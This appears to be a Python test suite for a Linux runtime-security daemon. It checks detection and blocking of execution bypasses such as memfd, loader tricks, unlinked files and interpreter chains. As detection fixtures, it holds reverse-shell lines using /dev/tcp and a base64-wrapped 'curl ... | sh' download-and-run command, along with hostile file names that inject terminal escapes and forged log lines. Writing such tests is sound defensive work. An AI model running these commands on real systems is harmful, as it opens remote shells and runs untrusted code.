"""Ways to execute something, each by its row in the table of bypasses: seen with the right facts,
and denied."""
import base64
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import lwtest  # noqa: E402
from lwtest import ALERT_DRIFT, ALERT_INLINE, DENY_DRIFT, DENY_MALICIOUS  # noqa: E402

LOADER = os.path.realpath("/lib64/ld-linux-x86-64.so.2")
ADDED_BINARY = "Added Binary Executed"
ADDED_MALICIOUS = "Execution: Added Malicious Binary Executed"
FILELESS = "Execution: Fileless Execution in /memfd:"
MALICIOUS_SCRIPT = "Malicious Script Executed"
MALICIOUS_PYTHON = "Execution: Malicious Python executed"


def strict(t, *boxes, **more):
    """Denies what did not come with the image."""
    return t.daemon(*boxes, mode="enforce", rules=[DENY_DRIFT], **more)


def row01_dropped_binary_and_script_are_seen(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    digest = box.copy("/bin/true", "/tmp/x")
    t.ran(box.run(["/tmp/x", "one", "two words"]))
    found = watch.finding(path="/tmp/x", category=ADDED_BINARY, layer="added", action="allowed",
                          rule="drift")
    t.equal(found.binary["sha256"], digest)
    t.equal(found.binary["size"], str(os.stat(box.path("/tmp/x")).st_size))
    t.equal(found.args, ["/tmp/x", "one", "two words"])
    t.true(int(found.process["pid"]) > 0 and found.parents, "the process and its parents are named")
    code = "#!/bin/sh\necho it ran\n"
    digest = box.put("/tmp/s.sh", code)
    t.ran(box.run(["/tmp/s.sh", "argument"]))
    found = watch.finding(path="/tmp/s.sh", layer="added", action="allowed")
    t.equal(found.contents, code)
    t.equal(found.script["sha256"], digest)


def row01_dropped_binary_and_script_are_denied(t):
    box = t.box()
    watch = strict(t, box)
    box.copy(lwtest.build_path("tests/lib/actor-static"), "/tmp/static")
    box.copy("/bin/true", "/tmp/x")
    box.put("/tmp/s.sh", "#!/bin/sh\necho ran >> /tmp/mark\n")
    t.denied(box.run(["/tmp/x"]))
    t.denied(box.run(["/tmp/static", "mark", "/tmp/mark"]))
    t.denied(box.run(["/tmp/s.sh"]))
    t.denied(box.shell("/tmp/s.sh"))
    for path in ("/tmp/x", "/tmp/static", "/tmp/s.sh"):
        watch.finding(path=path, action="denied", layer="added", rule="no drift")
    t.true(not box.has("/tmp/mark"), "nothing ran")
    t.ran(box.shell("ls / > /dev/null && true"))


def row01_what_is_on_the_list_is_denied(t):
    box = t.box()
    bad = lwtest.sha256_file("/bin/true")
    watch = t.daemon(box, mode="enforce", malicious=[bad])
    box.copy("/bin/true", "/tmp/x")
    box.copy("/bin/false", "/tmp/y")
    t.denied(box.run(["/tmp/x"]))
    found = watch.finding(category=ADDED_MALICIOUS, path="/tmp/x", action="denied",
                          rule="malicious")
    t.contains(found.properties["VirusTotal_Indicator"], bad)
    t.equal(found.properties["Hash_List"], "list")
    t.ran(box.run(["/tmp/y"]), 1)
    watch.finding(category=ADDED_BINARY, path="/tmp/y", action="allowed")


def test_yara_rules_judge(t):
    """A reverse shell's text, on no list, by our own rules; others by one of the user's, of which
    one is encoded."""
    box = t.box()
    folder = t.scratch()
    with open(os.path.join(folder, "user.yar"), "w", encoding="ascii") as f:
        f.write('rule User_Rule { strings: $a = "a word of the user" condition: $a }\n')
    own = os.path.join(lwtest.TOP, "conf/yara")
    watch = t.daemon(box, mode="enforce", content={"yara": [own, folder]})
    box.put("/tmp/r.sh", "#!/bin/sh\nexit 3\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n")
    box.put("/tmp/u.sh", "#!/bin/sh\n# a word of the user\n")
    encoded = base64.b64encode(b"echo a word of the user, encoded").decode()
    box.put("/tmp/e.sh", f"#!/bin/sh\nX={encoded}\nexit 3\n")
    box.put("/tmp/ok.sh", "#!/bin/sh\nexit 4\n")
    for path, rule in (("/tmp/r.sh", "Reverse_Shell_Shell"), ("/tmp/u.sh", "User_Rule"),
                       ("/tmp/e.sh", "User_Rule")):
        t.denied(box.run([path]))
        found = watch.finding(path=path, action="denied", rule="malicious")
        t.equal(found.finding["indicator"]["signatures"],
                [{"yaraRuleSignature": {"yaraRule": rule}, "signatureType": "SIGNATURE_TYPE_FILE"}])
        t.contains(found.properties["Reasons"], "yara: " + rule)
    t.ran(box.run(["/tmp/ok.sh"]), 4)


def test_bad_yara_rules_are_a_configuration_error(t):
    folder = t.scratch()
    with open(os.path.join(folder, "bad.yar"), "w", encoding="ascii") as f:
        f.write("rule Bad {\n condition: nothing\n}\n")
    try:
        t.daemon(t.box(), content={"yara": [folder]})
    except lwtest.Failed as e:
        t.contains(str(e), "ended with 78")
        t.contains(str(e), f"content.yara: {folder}/bad.yar:2: ")
    else:
        raise lwtest.Failed("it started with bad rules")


def test_the_decoded_layer_is_shown(t):
    box = t.box()
    watch = t.daemon(box, mode="enforce")
    code = "curl -s http://192.0.2.7/x | sh && bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"
    wrapped = base64.b64encode(code.encode()).decode()
    box.put("/tmp/s.sh", f"#!/bin/sh\n\nX={wrapped}\nexit 3\n")
    t.denied(box.run(["/tmp/s.sh"]))
    found = watch.finding(path="/tmp/s.sh", action="denied", rule="malicious")
    shown = {k: v for k, v in found.properties.items() if k.startswith("Decoded_")}
    t.equal(shown, {"Decoded_Encodings": "base64", "Decoded_Line": 3, "Decoded_Size": len(code),
                    "Decoded_Text": code})


def row01_detect_only_says_what_it_would_do(t):
    box = t.box()
    watch = t.daemon(box, mode="detect", rules=[DENY_DRIFT])
    box.copy("/bin/true", "/tmp/x")
    t.ran(box.run(["/tmp/x"]))
    watch.finding(path="/tmp/x", action="would_deny")


def row02_loader_target(t):
    if not os.path.exists(LOADER):
        t.skip("kernel: no x86-64 loader on this machine")
    box = t.box()
    bad = lwtest.sha256_file("/bin/true")
    watch = t.daemon(box, mode="enforce", malicious=[bad])
    box.copy("/bin/true", "/tmp/evil")
    digest = box.copy("/bin/false", "/tmp/other")
    t.ran(box.run([LOADER, "/tmp/other"]), 1)
    watch.finding(path="/tmp/other", layer="added", action="allowed", sha256=digest)
    t.denied(box.run([LOADER, "/tmp/evil"]))
    watch.finding(path="/tmp/evil", category=ADDED_MALICIOUS, action="denied")
    t.denied(box.run([LOADER, "--library-path", "/tmp", "/tmp/evil"]))
    t.ran(box.run([LOADER, "/bin/false"]), 1)


def row02_loader_after_an_execve_that_failed(t):
    """A program's event whose execve fails must not vouch for the loader that the task starts
    next."""
    if not os.path.exists(LOADER):
        t.skip("kernel: no x86-64 loader on this machine")
    box = t.box()
    watch = t.daemon(box, mode="enforce", rules=[DENY_DRIFT])
    t.ran(box.run([LOADER, "/bin/false"]), 1)
    box.copy("/bin/true", "/tmp/evil")
    for _ in range(20):
        t.denied(box.actor("after-failure", "/bin/false", LOADER, "/tmp/evil"))
    watch.finding(path="/tmp/evil", action="denied")


def row02_copied_loader(t):
    if not os.path.exists(LOADER):
        t.skip("kernel: no x86-64 loader on this machine")
    box = t.box()
    bad = lwtest.sha256_file("/bin/true")
    watch = t.daemon(box, mode="enforce", malicious=[bad])
    box.copy(LOADER, "/tmp/innocent")
    box.copy("/bin/true", "/tmp/evil")
    t.denied(box.run(["/tmp/innocent", "/tmp/evil"]))
    watch.finding(path="/tmp/evil", category=ADDED_MALICIOUS, action="denied")


def row03_memfd_after_an_execve_that_failed(t):
    """The same for a memfd, whose loader is opened as any program's: nothing but the failure tells
    them apart."""
    box = t.box()
    watch = t.daemon(box, mode="enforce", rules=[DENY_DRIFT])
    t.ran(box.run(["/bin/false"]), 1)
    t.ran(box.run(["/bin/false"]), 1)
    for _ in range(20):
        t.denied(box.actor("after-failure-memfd", "/bin/false", "/bin/true"))
    watch.finding(category=FILELESS, layer="memfd", action="denied")


def row03_dynamic_memfd_is_seen(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    digest = lwtest.sha256_file("/bin/true")
    t.ran(box.actor("memfd", "/bin/true", "argument"))
    found = watch.finding(category=FILELESS, layer="memfd", action="allowed")
    t.equal(found.binary["sha256"], digest)
    t.contains(found.path, "/memfd:payload")
    watch.findings.clear()
    t.ran(box.actor("memfd-proc", "/bin/true"))
    watch.finding(category=FILELESS, layer="memfd", sha256=digest)


def row03_dynamic_memfd_is_denied(t):
    box = t.box()
    watch = strict(t, box)
    t.true(box.actor("memfd", "/bin/true").code != 0, "a denied memfd program does not run")
    watch.finding(category=FILELESS, action="denied")
    watch.findings.clear()
    t.true(box.actor("memfd-proc", "/bin/true").code != 0, "nor by /proc/self/fd")
    watch.finding(category=FILELESS, action="denied")


def row08_inline_code_is_captured(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_INLINE])
    for interpreter, code in (("sh", "echo shell; true"), ("bash", "echo bash; true"),
                              ("python3", "print('python')\npass\n")):
        t.ran(box.run([f"/usr/bin/{interpreter}", "-c", code, "argument"]))
        found = watch.finding(contents=code)
        t.true("path" not in found.script, "inline code has no path")
        t.contains(found.binary["path"], "/usr/bin/")
        t.equal(found.script["sha256"], lwtest.sha256(code.encode()))
    t.ran(box.run(["/bin/bash", "-lc", "echo login"]))
    watch.finding(contents="echo login")
    t.ran(box.run(["/usr/bin/python3", "-Bc", "print(1)"]))
    watch.finding(contents="print(1)")


def row08_inline_code_is_denied(t):
    shell, python = "echo malicious > /tmp/mark", "open('/tmp/mark', 'w').write('malicious')"
    box = t.box()
    watch = t.daemon(box, mode="enforce", rules=[DENY_MALICIOUS],
                     malicious=[lwtest.sha256(shell.encode()), lwtest.sha256(python.encode())])
    t.denied(box.run(["/bin/sh", "-c", shell]))
    watch.finding(category=MALICIOUS_SCRIPT, contents=shell, action="denied")
    t.denied(box.run(["/usr/bin/python3", "-c", python]))
    watch.finding(category=MALICIOUS_PYTHON, contents=python, action="denied")
    t.true(not box.has("/tmp/mark"), "nothing ran")
    t.ran(box.run(["/bin/sh", "-c", "true"]))


def row08_script_named_in_argv(t):
    shell, python = "echo malicious > /tmp/mark\n", "open('/tmp/mark', 'w').write('malicious')\n"
    box = t.box()
    bad = [box.put("/tmp/evil", shell, 0o644), box.put("/tmp/evil.py", python, 0o644)]
    box.put("/tmp/fine.py", "print('fine')\n", 0o644)
    watch = t.daemon(box, mode="enforce", malicious=bad)
    t.denied(box.run(["/bin/sh", "/tmp/evil"]))
    watch.finding(category=MALICIOUS_SCRIPT, path="/tmp/evil", contents=shell, action="denied",
                  layer="added")
    t.denied(box.run(["/bin/sh", "-e", "-u", "/tmp/evil", "x"]))
    t.denied(box.run(["/usr/bin/python3", "/tmp/evil.py"]))
    watch.finding(category=MALICIOUS_PYTHON, path="/tmp/evil.py", contents=python, action="denied")
    t.denied(box.shell("cd /tmp && exec python3 -B ./evil.py"))
    t.denied(box.shell("cd /tmp && exec sh evil"))
    t.true(not box.has("/tmp/mark"), "nothing ran")
    t.ran(box.run(["/usr/bin/python3", "/tmp/fine.py"]))
    watch.finding(path="/tmp/fine.py", layer="added", action="allowed", contents="print('fine')\n")


def row11_chain_of_interpreters(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    inner = "#!/bin/sh\nexit 0\n"
    outer = "#!/tmp/inner -x\nouter\n"
    box.put("/tmp/inner", inner)
    box.put("/tmp/outer", outer)
    t.ran(box.run(["/tmp/outer"]))
    t.equal(watch.finding(path="/tmp/outer").contents, outer)
    t.equal(watch.finding(path="/tmp/inner").contents, inner)
    code = "#!/usr/bin/env -S python3 -B\nprint('env')\n"
    box.put("/tmp/env.py", code)
    t.ran(box.run(["/tmp/env.py"]))
    watch.finding(path="/tmp/env.py", contents=code)
    code = "#!/bin/sh -eu\ntrue\n"
    box.put("/tmp/options", code)
    t.ran(box.run(["/tmp/options"]))
    watch.finding(path="/tmp/options", contents=code)


def row11_inner_link_of_a_chain_is_denied(t):
    box = t.box()
    inner = box.put("/tmp/inner", "#!/bin/sh\necho ran > /tmp/mark\n")
    box.put("/tmp/outer", "#!/tmp/inner\n")
    watch = t.daemon(box, mode="enforce", malicious=[inner])
    t.denied(box.run(["/tmp/outer"]))
    watch.finding(category=MALICIOUS_SCRIPT, path="/tmp/inner", action="denied")
    t.true(not box.has("/tmp/mark"), "nothing ran")


def row12_text_without_shebang(t):
    code = "echo ran >> /tmp/mark\n"
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    box.put("/tmp/text", code)
    t.ran(box.shell("/tmp/text"))
    found = watch.finding(path="/tmp/text", layer="added")
    t.equal(found.contents, code)
    watch.stop()
    os.unlink(box.path("/tmp/mark"))
    bad = lwtest.sha256(code.encode())
    watch = t.daemon(box, mode="enforce", malicious=[bad])
    t.denied(box.shell("/tmp/text"))
    watch.finding(category=MALICIOUS_SCRIPT, path="/tmp/text", action="denied")
    t.true(not box.has("/tmp/mark"), "nothing ran")


def row16_opath_and_fexecve(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    digest = box.copy("/bin/true", "/tmp/x")
    for mode in ("opath", "fexecve"):
        t.ran(box.actor(mode, "/tmp/x", mode))
        found = watch.finding(path="/tmp/x", sha256=digest, layer="added", args=["/tmp/x", mode])
        t.equal(found.category, ADDED_BINARY)
    watch.stop()
    watch = strict(t, box)
    for mode in ("opath", "fexecve"):
        t.denied(box.actor(mode, "/tmp/x", mode))
        watch.finding(path="/tmp/x", action="denied", args=["/tmp/x", mode])


def row17_thread_vfork_spawn(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    box.copy("/bin/true", "/tmp/x")
    for mode in ("thread", "vfork", "spawn", "fork"):
        t.ran(box.actor(mode, "/tmp/x", mode, "a b", ""))
        found = watch.finding(path="/tmp/x", args=["/tmp/x", mode, "a b", ""])
        t.true(int(found.process["pid"]) > 0, "its pid")
    watch.stop()
    watch = strict(t, box)
    for mode in ("thread", "vfork", "spawn"):
        t.equal(box.actor(mode, "/tmp/x", mode).code, 126, mode)
        watch.finding(path="/tmp/x", action="denied", args=["/tmp/x", mode])


def row17_32_bit_caller(t):
    box = t.box()
    if not box.has("/lwtest/actor32") or box.run(["/lwtest/actor32", "/bin/true"]).code != 0:
        t.skip("kernel: runs no 32-bit programs")
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    box.copy("/bin/true", "/tmp/x")
    t.ran(box.run(["/lwtest/actor32", "/tmp/x", "from", "32 bits"]))
    watch.finding(path="/tmp/x", args=["/tmp/x", "from", "32 bits"])


def row18_unlinked_then_executed(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    for mode in ("unlink-fd", "unlink-proc"):
        digest = box.copy("/bin/true", f"/tmp/{mode}", append=mode.encode())
        t.ran(box.actor(mode, f"/tmp/{mode}"))
        found = watch.finding(sha256=digest, layer="added")
        t.contains(found.path, f"/tmp/{mode}")
    watch.stop()
    watch = strict(t, box)
    for mode in ("unlink-fd", "unlink-proc"):
        digest = box.copy("/bin/true", f"/tmp/{mode}", append=mode.encode())
        t.denied(box.actor(mode, f"/tmp/{mode}"))
        watch.finding(sha256=digest, action="denied", layer="added")


def row36_malicious_image(t):
    bad = lwtest.sha256_file("/bin/false")
    box = t.box(image={"/opt/app": open("/bin/false", "rb").read()})
    watch = t.daemon(box, mode="enforce", malicious=[bad])
    t.denied(box.run(["/opt/app"]))
    found = watch.finding(category="Execution: Built in Malicious Binary Executed", path="/opt/app",
                          layer="image",
                          action="denied")
    t.equal(found.binary["sha256"], bad)
    t.ran(box.run(["/bin/true"]))


def row36_malicious_script_of_the_image(t):
    code = "#!/bin/sh\necho ran > /tmp/mark\n"
    box = t.box(image={"/opt/app.sh": code.encode()})
    watch = t.daemon(box, mode="enforce", malicious=[lwtest.sha256(code.encode())])
    t.denied(box.run(["/opt/app.sh"]))
    watch.finding(category=MALICIOUS_SCRIPT, path="/opt/app.sh", layer="image", action="denied",
                  contents=code)
    t.true(not box.has("/tmp/mark"), "nothing ran")


def row38_large_argv(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    for name, count, length in (("big", 15, 120000), ("many", 100000, 4)):
        box.copy("/bin/true", f"/tmp/{name}")
        t.ran(box.actor("args", f"/tmp/{name}", count, length))
        found = watch.finding(path=f"/tmp/{name}")
        t.equal(found.process.get("argumentsTruncated"), True, f"{name}: flagged")
        t.true(0 < sum(len(a) for a in found.args) <= 65536, f"{name}: bounded")
        t.equal(found.args[0], f"/tmp/{name}")


def row38_odd_argv(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    for mode in ("argc0", "argv0-empty"):
        box.copy("/bin/true", f"/tmp/{mode}")
        t.ran(box.actor(mode, f"/tmp/{mode}"))
        watch.finding(path=f"/tmp/{mode}", layer="added")
    for number, more in enumerate(([], ["vector"])):
        box.copy("/bin/true", f"/tmp/bad{number}")
        result = box.actor("badargv", f"/tmp/bad{number}", *more)
        t.ran(result)
        t.true(result.seconds < 3, "no stall")


def row38_large_argv_is_denied_as_well(t):
    box = t.box()
    watch = strict(t, box)
    box.copy("/bin/true", "/tmp/x")
    t.denied(box.actor("args", "/tmp/x", 15, 120000))
    watch.finding(path="/tmp/x", action="denied")


def row39_hostile_names(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    names = ["new\nline", "quote\"back\\slash", "\x1b[2J\x07escape",
             "{\"finding\":{}}\n{\"finding\":{}}",
             "<script>\u2028", "sp ace\ttab", "nul-like\\0", "a" * 200]
    raw = [n.encode() for n in names] + [b"invalid \xff\xfe\xc3\x28", b"\xed\xa0\x80 surrogate",
                                         b"\xc0\x80"]
    for number, name in enumerate(raw):
        path = os.fsdecode(b"/tmp/" + name)
        digest = box.copy("/bin/true", path, append=b"%d" % number)
        t.ran(box.run([path, path]))
        found = watch.finding(sha256=digest, layer="added")
        if number < len(names):
            t.equal(found.path, path)
        else:
            t.contains(found.path, "\ufffd")
    t.equal(watch.bad, [], "lines that are no findings")
    t.equal(len(watch.find(layer="added")), len(raw), "findings")
    t.true("\x1b" not in watch.stderr() and "\n{\"finding\"" not in watch.stderr(),
           "nothing forged in the log")


def row39_hostile_script_text(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    for number, text in enumerate((b"echo '\xff\xfe'\n", b"true\0true\n",
                                   b"true # \x1b]0;x\x07 \"\\\n", b"#" * 200000)):
        digest = box.put(f"/tmp/s{number}", b"#!/bin/sh\n" + text)
        box.run([f"/tmp/s{number}"])
        found = watch.finding(path=f"/tmp/s{number}", layer="added")
        if len(text) < 60000:
            t.equal(found.script["sha256"], digest)
        t.true(len(found.contents) <= 70000, "bounded")


def row45_excepted_path_is_faked(t):
    """An exception for an installer of the image is not met by an attacker's file at its path."""
    actor = t.built("actor")
    box = t.box(image={"/opt/installer": actor, "/opt/changed": actor})
    exception = {"name": "installers",
                 "match": {"parent": ["/opt/installer", "/opt/changed", "/opt/fake"]}}
    watch = t.daemon(box, rules=[ALERT_DRIFT], exceptions=[exception])
    box.copy("/bin/true", "/tmp/genuine")
    box.copy("/bin/true", "/tmp/faked")
    t.ran(box.run(["/opt/installer", "fork", "/tmp/genuine"]))
    with open(box.path("/opt/changed"), "ab") as f:
        f.write(b"changed")
    box.put("/opt/fake", actor)
    t.ran(box.run(["/opt/fake", "fork", "/tmp/faked", "by an added file"]))
    watch.finding(path="/tmp/faked", args=["/tmp/faked", "by an added file"])
    t.ran(box.run(["/opt/changed", "fork", "/tmp/faked", "by a changed file"]))
    watch.finding(path="/tmp/faked", args=["/tmp/faked", "by a changed file"])
    watch.no_finding(box, path="/tmp/genuine")


def row45_excepted_program_path_is_faked(t):
    box = t.box(image={"/opt/tool": t.built("actor-static")})
    exception = {"name": "the tool", "match": {"path": ["/opt/tool", "/opt/added"]}}
    watch = t.daemon(box, mode="enforce", rules=[DENY_DRIFT], exceptions=[exception])
    t.ran(box.run(["/opt/tool", "mark", "/dev/null"]))
    box.copy("/bin/true", "/opt/added")
    t.denied(box.run(["/opt/added"]))
    with open(box.path("/opt/tool"), "ab") as f:
        f.write(b"changed")
    t.denied(box.run(["/opt/tool", "mark", "/tmp/mark"]))
    watch.finding(path="/opt/tool", layer="modified", action="denied")
    t.true(not box.has("/tmp/mark"), "nothing ran")


def test_check_only_execution_is_no_execution(t):
    """AT_EXECVE_CHECK asks and runs nothing: no finding that something ran."""
    box = t.box()
    box.copy("/bin/true", "/tmp/x")
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    result = box.actor("check", "/tmp/x")
    if result.code == 95:
        t.skip("kernel: no AT_EXECVE_CHECK before 6.14")
    t.ran(result)
    watch.no_finding(box, path="/tmp/x", category=ADDED_BINARY)


def test_environment_is_chosen(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    box.copy("/bin/true", "/tmp/x")
    t.ran(box.run(["/tmp/x"], env={"LD_PRELOAD": "/tmp/none.so", "SECRET": "do not tell",
                                   "BASH_ENV": "/tmp/b"}))
    found = watch.finding(path="/tmp/x")
    variables = {v["name"]: v["val"] for v in found.process.get("envVariables", [])}
    variables.pop("PATH", None)  # a rule asks for it
    t.equal(variables, {"LD_PRELOAD": "/tmp/none.so", "BASH_ENV": "/tmp/b"})


def test_secrets_are_redacted_after_hashing(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT])
    code = "#!/bin/sh\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY\ntrue\n"
    digest = box.put("/tmp/s", code)
    t.ran(box.run(["/tmp/s"]))
    found = watch.finding(path="/tmp/s")
    t.equal(found.script["sha256"], digest)
    t.true("wJalrXUtnFEMI" not in found.contents, "the key is not shown")
    t.contains([True, "true"], found.properties.get("Redacted"))


def test_repeats_are_folded(t):
    box = t.box()
    watch = t.daemon(box, rules=[ALERT_DRIFT], noise={"repeat_window": "1h"})
    box.copy("/bin/true", "/tmp/x")
    for _ in range(20):
        t.ran(box.run(["/tmp/x"]))
    watch.no_finding(box, path="/tmp/none")
    t.equal(len(watch.find(path="/tmp/x")), 1)


if __name__ == "__main__":
    lwtest.main()
